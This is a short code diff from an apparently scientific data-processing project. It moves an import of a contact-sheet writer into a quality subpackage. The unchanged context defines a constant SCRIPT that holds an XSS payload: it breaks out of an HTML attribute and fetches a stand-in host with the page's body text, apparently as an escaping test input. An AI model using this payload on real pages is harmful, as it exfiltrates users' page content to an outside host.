@@ -21,8 +21,8 @@ from adni_tcgm.datasets.arrays import ArraysConfig, read
 from adni_tcgm.datasets.emotion_files import open_arrays
 from adni_tcgm.datasets.newsgroup_text import read_posts
 from adni_tcgm.storage import load_run, load_weights, weight_shapes
-from preprocessing.contact_sheet import write_contact_sheet
 from preprocessing.ledger import LedgerRow, ledger_table, write_table
+from preprocessing.quality.sheet import write_contact_sheet
 
 SCRIPT = '"><script>fetch("//x.example/?"+document.body.innerText)</script>'
 
